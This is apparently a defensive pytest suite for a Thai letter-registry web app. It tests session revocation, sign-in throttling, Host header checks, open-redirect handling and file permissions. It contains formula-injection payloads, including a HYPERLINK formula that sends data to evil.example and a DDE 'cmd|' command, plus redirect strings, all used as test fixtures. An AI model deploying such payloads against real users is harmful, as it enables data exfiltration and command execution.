"""The workspace on an office network: sessions end when they should, guessing is slow
without shutting colleagues out, exports carry no live formulas, odd Host headers and
``next`` values are refused cleanly, and the registry is its owner's alone."""
from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
import urllib.request
from pathlib import Path

import pytest

pytest.importorskip("flask")

import web_support  # noqa: E402
from click.testing import CliRunner  # noqa: E402
from ingest.web.app import create_app  # noqa: E402
from ingest.web.auth import UserStore, users_path  # noqa: E402

PASSWORDS = web_support.PASSWORDS


@pytest.fixture
def secured(places):
    return web_support.secured_app(places("reg.db"))


token_of = web_support.login_token


def try_sign_in(client, name, password, addr="10.0.0.7", **kw):
    return client.post("/login", data={"username": name, "password": password, "csrf_token": token_of(client)},
                       environ_base={"REMOTE_ADDR": addr}, **kw)


def sign_in(app, name, addr="10.0.0.7"):
    client = app.test_client()
    r = try_sign_in(client, name, PASSWORDS[name][1], addr)
    assert r.status_code == 302, r.get_data(as_text=True)
    return client, client.get("/api/me", environ_base={"REMOTE_ADDR": addr}).get_json()["csrf"]


basic = web_support.basic


# -- sessions end with the user, the password and the sign-out ----------------------------

def test_a_removed_user_can_no_longer_correct_letters(secured):
    app, ids, store = secured
    client, csrf = sign_in(app, "somsri")
    patch = {"field": "subject", "value": "แก้หลังถูกลบ"}
    assert client.patch(f"/api/letters/{ids['province']}", json=patch, headers={"X-CSRF-Token": csrf}).status_code == 200
    from ingest.cli.web import users

    r = CliRunner().invoke(users, ["remove", "somsri", "--db", str(app.config["DB_PATH"])])
    assert r.exit_code == 0, r.output
    patch["value"] = "แก้อีกครั้ง"
    r = client.patch(f"/api/letters/{ids['province']}", json=patch, headers={"X-CSRF-Token": csrf})
    assert r.status_code == 401
    assert client.get("/queue").status_code == 302  # back to the sign-in page
    assert client.get(f"/api/letters/{ids['province']}").status_code == 401
    assert app.test_client().get(f"/api/letters/{ids['province']}", headers=basic("somsri", "clerk-pass-1")
                                 ).status_code == 401


def test_a_cookie_copied_before_sign_out_stops_working(secured):
    app, _, _ = secured
    client, csrf = sign_in(app, "anan")
    copied = client.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/api/me").get_json()["user"] == "anan"
    assert client.post("/logout", data={"csrf_token": csrf}).status_code == 302
    assert thief.get("/api/me").status_code == 401
    assert thief.get("/queue").status_code == 302
    # signing in again makes a new session that works; the copied one stays dead
    fresh, _ = sign_in(app, "anan")
    assert fresh.get("/api/me").status_code == 200
    assert thief.get("/api/me").status_code == 401


def test_a_new_password_or_role_ends_the_old_sessions(secured):
    app, _, store = secured
    client, _ = sign_in(app, "wipa")
    assert client.get("/register.csv").status_code == 200
    store.add("wipa", "audit-pass-2", "staff")
    assert client.get("/register.csv").status_code == 302
    assert client.get("/api/me").status_code == 401


# -- guessing passwords: slow, logged, and no one shuts a colleague out -------------------

def test_basic_auth_is_throttled_like_the_sign_in_form(secured):
    app, ids, _ = secured
    client = app.test_client()
    url = f"/api/letters/{ids['ministry']}"
    for _ in range(30):
        r = client.get(url, headers=basic("anan", "guess"), environ_base={"REMOTE_ADDR": "10.0.0.9"})
        if r.status_code == 429:
            break
        assert r.status_code == 401
    r = client.get(url, headers=basic("anan", "staff-pass-1"), environ_base={"REMOTE_ADDR": "10.0.0.9"})
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    assert "รอ" in r.get_json()["error"] and "ได้ตั้งแต่เวลา" in r.get_json()["error"]
    # the form from that address is refused for that account too: one count for both ways in
    assert try_sign_in(app.test_client(), "anan", "staff-pass-1", "10.0.0.9").status_code == 429
    # anan at their own desk is not shut out
    assert client.get(url, headers=basic("anan", "staff-pass-1"), environ_base={"REMOTE_ADDR": "10.0.0.3"}
                      ).status_code == 200


def test_mistyping_at_a_shared_desk_locks_only_that_account_there(secured):
    app, _, _ = secured
    desk, elsewhere = "10.0.0.7", "10.0.0.8"
    client = app.test_client()
    for _ in range(5):
        assert try_sign_in(client, "somsri", "guess", desk).status_code == 401
    r = try_sign_in(client, "somsri", "clerk-pass-1", desk)  # even the right password waits
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    text = r.get_data(as_text=True)
    assert "จากเครื่องนี้ผิดหลายครั้งเกินไป" in text and "ได้ตั้งแต่เวลา" in text and "ผู้ใช้อื่น" in text
    # the colleague at the same desk signs in; the owner of the account can from another desk
    assert try_sign_in(app.test_client(), "anan", "staff-pass-1", desk).status_code == 302
    assert try_sign_in(app.test_client(), "somsri", "clerk-pass-1", elsewhere).status_code == 302


def test_guessing_from_many_addresses_slows_the_account_but_not_its_owner(secured):
    app, _, _ = secured
    assert try_sign_in(app.test_client(), "wipa", "audit-pass-1", "10.0.0.5").status_code == 302
    for n in range(10):
        assert try_sign_in(app.test_client(), "wipa", "guess", f"10.9.0.{n}").status_code == 401
    r = try_sign_in(app.test_client(), "wipa", "audit-pass-1", "10.9.1.1")
    assert r.status_code == 429 and "หลายเครื่อง" in r.get_data(as_text=True)
    assert int(r.headers["Retry-After"]) <= 30
    # wipa's own desk, where she signed in before, is not held up
    assert try_sign_in(app.test_client(), "wipa", "audit-pass-1", "10.0.0.5").status_code == 302


def test_the_owners_desk_is_known_again_after_a_restart(secured):
    app, _, _ = secured
    assert try_sign_in(app.test_client(), "wipa", "audit-pass-1", "10.0.0.5").status_code == 302
    restarted = create_app(app.config["DB_PATH"], require_login=True)  # knows it from the sign-in log
    for n in range(10):
        assert try_sign_in(restarted.test_client(), "wipa", "guess", f"10.9.0.{n}").status_code == 401
    assert try_sign_in(restarted.test_client(), "wipa", "audit-pass-1", "10.9.1.1").status_code == 429
    assert try_sign_in(restarted.test_client(), "wipa", "audit-pass-1", "10.0.0.5").status_code == 302


def test_one_address_trying_many_names_is_capped(secured):
    app, _, _ = secured
    for n in range(29):
        assert try_sign_in(app.test_client(), f"user{n}", "guess", "10.0.0.66").status_code == 401
    assert try_sign_in(app.test_client(), "anan", "staff-pass-1", "10.0.0.66").status_code == 302
    assert try_sign_in(app.test_client(), "user99", "guess", "10.0.0.66").status_code == 401
    r = try_sign_in(app.test_client(), "anan", "staff-pass-1", "10.0.0.66")
    assert r.status_code == 429 and "จากเครื่องนี้" in r.get_data(as_text=True)


def test_the_limiter_over_time():
    from ingest.web.signin import Limits, SignInLimiter

    limiter = SignInLimiter(Limits(pair=3, pair_window=60, account=5, account_delay=30, address=8))
    for t in (0, 1, 2):
        limiter.failed("wipa", "10.0.0.9", now=t)
    assert limiter.wait("wipa", "10.0.0.9", now=30).seconds == 30   # the pair, until the first is a minute old
    assert limiter.wait("wipa", "10.0.0.1", now=30) is None          # the account elsewhere
    assert limiter.wait("somsri", "10.0.0.9", now=30) is None        # and the address for others
    assert limiter.wait("wipa", "10.0.0.9", now=60.5) is None
    for t, addr in ((70, "a"), (71, "b")):
        limiter.failed("wipa", addr, now=t)                           # five for the account now
    refusal = limiter.wait("wipa", "c", now=81)
    assert (refusal.reason, refusal.seconds) == ("account", 20)      # 30 s after the last failure
    assert limiter.wait("wipa", "c", now=101.5) is None
    limiter.succeeded("wipa", "home", now=60)
    assert limiter.wait("wipa", "home", now=81) is None               # a known address goes ahead
    for t in range(8):
        limiter.failed(f"n{t}", "lab", now=200 + t)
    assert limiter.wait("anan", "lab", now=210).reason == "address"


def test_sign_ins_are_logged_beside_the_users(secured):
    app, ids, store = secured
    try_sign_in(app.test_client(), "anan", "wrong", "10.0.0.21")
    try_sign_in(app.test_client(), "nobody", "wrong", "10.0.0.21")
    sign_in(app, "anan", "10.0.0.21")
    app.test_client().get(f"/api/letters/{ids['ministry']}", headers=basic("wipa", "bad"),
                          environ_base={"REMOTE_ADDR": "10.0.0.22"})
    from ingest.cli.main import main

    db = str(app.config["DB_PATH"])
    r = CliRunner().invoke(main, ["users", "log", "--db", db])
    assert r.exit_code == 0, r.output
    rows = [line.split("\t") for line in r.output.splitlines()]
    assert [row[1:] for row in rows] == [["anan", "10.0.0.21", "wrong password", "form"],
                                         ["nobody", "10.0.0.21", "unknown user", "form"],
                                         ["anan", "10.0.0.21", "ok", "form"],
                                         ["wipa", "10.0.0.22", "wrong password", "basic"]]
    assert all(row[0].endswith("+00:00") for row in rows)
    r = CliRunner().invoke(main, ["users", "log", "--db", db, "--failed", "--user", "anan", "--json"])
    assert [json.loads(line)["outcome"] for line in r.output.splitlines()] == ["wrong password"]
    log = store.path.with_name(store.path.name.replace(".users.json", ".signins.jsonl"))   # reg.signins.jsonl
    assert stat.S_IMODE(log.stat().st_mode) == 0o600


def test_the_sign_in_log_rotates_and_is_read_from_its_end(tmp_path, monkeypatch):
    """A log past its size becomes .1 (then .2 …, the oldest beyond KEEP dropped); the
    latest lines are read from the end of the files, across a rotation, oldest first."""
    from ingest.web.signin import SignInLog

    monkeypatch.setattr(SignInLog, "ROTATE_BYTES", 2000)
    monkeypatch.setattr(SignInLog, "KEEP", 2)
    log = SignInLog(tmp_path / "reg.signins.jsonl")
    for i in range(120):
        log.write(f"user{i:03d}", "10.0.0.1", "wrong password")
    files = sorted(p.name for p in tmp_path.iterdir() if p.suffix != ".lock")   # the processes' lock beside them
    assert files == ["reg.signins.jsonl", "reg.signins.jsonl.1", "reg.signins.jsonl.2"]
    assert all(p.stat().st_size < 2000 + 200 for p in tmp_path.iterdir())
    everything = [e["user"] for e in log.read()]
    assert everything == sorted(everything) and everything[-1] == "user119"  # the oldest dropped
    assert len(everything) < 120
    assert [e["user"] for e in log.read(last=30)] == everything[-30:]    # spans the rotation
    assert [e["user"] for e in log.read(last=1)] == ["user119"]
    assert stat.S_IMODE((tmp_path / "reg.signins.jsonl.1").stat().st_mode) == 0o600


def _fail_in_another_process(path, name, address, times):
    from ingest.web.signin import Limits, SignInLimiter

    limiter = SignInLimiter(Limits(pair=3), path)
    for _ in range(times):
        limiter.failed(name, address)


def test_every_server_process_counts_the_same_failures(tmp_path):
    """Failures made in one process refuse the next try in another, and after a restart."""
    import multiprocessing

    from ingest.web.signin import Limits, SignInLimiter

    path = tmp_path / "reg.signins.db"
    here = SignInLimiter(Limits(pair=3), path)
    here.failed("wipa", "10.0.0.9")
    other = multiprocessing.get_context("spawn").Process(target=_fail_in_another_process,
                                                         args=(path, "wipa", "10.0.0.9", 2))
    other.start()
    other.join(60)
    assert other.exitcode == 0
    assert here.wait("wipa", "10.0.0.9").reason == "pair"
    assert SignInLimiter(Limits(pair=3), path).wait("wipa", "10.0.0.9").reason == "pair"   # started again
    assert here.wait("wipa", "10.0.0.10") is None
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# -- exports carry text, never formulas ---------------------------------------------------

HOSTILE = {"subject": '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเพื่อดูหนังสือ")',
           "issuer": "=cmd|' /C calc'!A0", "recipients": ["+ผู้ว่าราชการจังหวัด", "@SUM(1+1)"],
           "doc_no": "-2+3", "purpose": "@1+1"}


@pytest.fixture
def hostile(tmp_path, places):
    from ingest.registry.corrections import edit
    from ingest.registry.store import Registry

    db = places("reg.db")
    web_support.build(db, tmp_path / "scans")
    letter = dict(web_support.PROVINCE, **HOSTILE)
    letter["receipt"] = dict(letter["receipt"], date="2024-01-23")
    with Registry(db) as reg:
        new, = web_support.add_sheet(reg, [letter], tmp_path / "scans", "hostile.png")
        # a tab or a carriage return first: a page cannot be drawn with them, a correction can
        edit(reg, new, "purpose", "\t=1+1", user="t")
        edit(reg, new, "receipt", {"number": "\r=2+2", "date": "2024-01-23"}, user="t")
        rec = reg.letter(new)
    assert rec["purpose"] == "\t=1+1" and rec["receipt"]["number"] == "\r=2+2"
    return db


def formula_like(value) -> bool:
    return isinstance(value, str) and value.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_no_export_cell_starts_like_a_formula(hostile):
    from openpyxl import load_workbook

    from ingest.registry.book import export_records, register
    from ingest.registry.store import Registry

    client = create_app(hostile, secret_key="t").test_client()
    with Registry(hostile) as reg:
        records_csv = export_records(reg, "csv")
        book_csv = register(reg, fmt="csv")
    for text in (client.get("/register.csv").data.decode("utf-8-sig"), book_csv, records_csv):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert any("HYPERLINK" in c for c in cells) and any("cmd|" in c for c in cells)
        assert [c for c in cells if formula_like(c)] == []
    book = load_workbook(io.BytesIO(client.get("/register.xlsx").data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f" or formula_like(c.value)] == []
    texts = [c.value for c in cells]
    # the clerk still reads what the letter said, after the apostrophe that keeps it text
    assert "'" + HOSTILE["subject"] in texts and "'" + HOSTILE["issuer"] in texts
    assert "ชม ๐๐๒๓.๓/ว ๖๙" in texts  # ordinary cells are untouched


def test_the_cli_exports_are_neutralised_too(hostile, tmp_path):
    from openpyxl import load_workbook

    from ingest.cli.main import main

    out = tmp_path / "book.xlsx"
    r = CliRunner().invoke(main, ["register", "--db", str(hostile), "--format", "xlsx", "-o", str(out)])
    assert r.exit_code == 0, r.output
    values = [c.value for row in load_workbook(out).active.iter_rows() for c in row]
    assert not [v for v in values if formula_like(v)]
    r = CliRunner().invoke(main, ["export", "--db", str(hostile), "--format", "csv"])
    assert r.exit_code == 0 and "HYPERLINK" in r.output
    assert not [c for row in csv.reader(io.StringIO(r.output)) for c in row if formula_like(c)]


# -- Host headers and where sign-in sends you back to ---------------------------------

@pytest.fixture
def local_app(places):
    db = places("reg.db")
    web_support.build(db)
    return create_app(db, secret_key="t")


def test_a_foreign_host_gets_a_clean_400_in_thai(local_app):
    client = local_app.test_client()
    for path in ("/queue", "/search?q=มท", "/nothing-here"):
        r = client.get(path, headers={"Host": "evil.example", "Accept": "text/html"})
        assert r.status_code == 400, path
        assert "ไม่ใช่เครื่องนี้" in r.get_data(as_text=True)
    r = client.get("/api/search?q=มท", headers={"Host": "evil.example:8000"})
    assert r.status_code == 400 and "ไม่ใช่เครื่องนี้" in r.get_json()["error"]
    assert client.get("/queue", headers={"Host": "evil@127.0.0.1"}).status_code == 400
    for host in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000", "127.0.0.2:8000"):
        assert client.get("/queue", headers={"Host": host}).status_code == 200, host


def test_serving_on_another_loopback_address_works(local_app):
    from werkzeug.serving import make_server

    from ingest.web.app import is_loopback

    assert is_loopback("127.0.0.2")
    server = make_server("127.0.0.2", 0, local_app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        for path in ("/queue", "/search?q=%E0%B8%A1%E0%B8%97", "/static/style.css"):
            with urllib.request.urlopen(f"http://127.0.0.2:{server.server_port}{path}", timeout=30) as r:
                assert r.status == 200, path
    finally:
        server.shutdown()
        thread.join(5)


@pytest.mark.parametrize("target", ["/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example",
                                    "/ /evil.example", "\\/evil.example", "/\\/evil.example",
                                    "https:evil.example", "/\x00/evil.example"])
def test_next_is_only_ever_a_path_on_this_site(secured, target):
    app, _, _ = secured
    client = app.test_client()
    r = try_sign_in(client, "anan", "staff-pass-1", query_string={"next": target})
    assert r.status_code == 302 and r.headers["Location"] == "/", (target, r.headers["Location"])


def test_next_as_the_report_sent_it(secured):
    app, _, _ = secured
    client = app.test_client()
    r = client.post("/login?next=/%09/evil.example", data={"username": "anan", "password": "staff-pass-1",
                                                          "csrf_token": token_of(client)})
    assert r.status_code == 302 and r.headers["Location"] == "/"


def test_next_still_returns_to_the_page_asked_for(secured):
    app, ids, _ = secured
    client = app.test_client()
    r = client.get(f"/letters/{ids['province']}?tab=chain")
    target = r.headers["Location"].split("next=")[1]
    from urllib.parse import unquote

    r = try_sign_in(client, "anan", "staff-pass-1", query_string={"next": unquote(target)})
    assert r.headers["Location"] == f"/letters/{ids['province']}?tab=chain"


# -- the registry, its scans and its users are the owner's alone ------------------------

@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_registry_users_and_scans_are_private(tmp_path, umask):
    from ingest.registry.store import Registry

    old = os.umask(umask)
    try:
        db = tmp_path / "reg.db"
        web_support.build(db)
        UserStore(users_path(db)).add("somsri", "clerk-pass-1", "clerk")
        with Registry(db) as reg:
            reg.conn.execute("CREATE TABLE IF NOT EXISTS probe (x)")
            reg.conn.execute("INSERT INTO probe VALUES (1)")
            reg.conn.commit()
            wal = [db.with_name("reg.db-wal"), db.with_name("reg.db-shm")]
            assert all(p.exists() for p in wal)
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in wal}
    finally:
        os.umask(old)
    modes[db.name] = stat.S_IMODE(db.stat().st_mode)
    modes[users_path(db).name] = stat.S_IMODE(users_path(db).stat().st_mode)
    files = db.with_name("reg.files")
    for p in [files, *files.rglob("*")]:
        modes[str(p.relative_to(tmp_path))] = stat.S_IMODE(p.stat().st_mode)
    originals = [p for p in files.rglob("*.png")]
    assert len(originals) == 2
    wanted = {name: 0o700 if (tmp_path / name).is_dir() else 0o600 for name in modes}
    assert modes == wanted


@pytest.mark.parametrize("first", ["upload", "scan shown"])
def test_a_server_registrys_files_on_this_machine_are_private(tmp_path, pg_server, monkeypatch, first):
    """A server registry keeps its users, their sign-in log, uploads and this machine's copies
    of the scans it showed in the $SARABAN_SERVER_FILES folder: only their owner reads them,
    even where that folder was made open to all and the umask lets everyone in, whichever of
    an upload and a shown scan makes the registry's folder there."""
    from ingest.registry.store import Registry
    from ingest.settings import files_base

    here = tmp_path / "server-files"
    here.mkdir()
    here.chmod(0o755)
    monkeypatch.setenv("SARABAN_SERVER_FILES", str(here))
    url = pg_server.new_database()
    old = os.umask(0)
    try:
        web_support.build(url, tmp_path / "scans")
        store = UserStore(users_path(files_base(url)))
        store.add("somsri", "clerk-pass-1", "clerk")
        app = create_app(url, require_login=True)
        try_sign_in(app.test_client(), "somsri", "wrong")   # the sign-in log and the limiter's counts

        def upload():
            r = app.test_client().post("/api/ingest", data={"file": (io.BytesIO(b"%PDF-1.4\n%cut"), "cut.pdf")},
                                       headers=basic("somsri", "clerk-pass-1"))
            assert r.status_code == 422, r.get_data(as_text=True)

        def show():
            with Registry(url) as reg:
                return [reg.original_path(sha) for (sha,) in reg.conn.execute("SELECT sha256 FROM files")]

        if first == "upload":
            upload()
            shown = show()
        else:
            shown = show()
            upload()
    finally:
        os.umask(old)
    assert len(shown) == 2 and all(p.is_relative_to(here) for p in shown)
    modes = {str(p.relative_to(here)): stat.S_IMODE(p.stat().st_mode) for p in here.rglob("*")}
    assert {users_path(files_base(url)).name, ".uploads", shown[0].name} <= {Path(name).name for name in modes}
    wanted = {name: 0o700 if (here / name).is_dir() else 0o600 for name in modes}
    assert modes == wanted
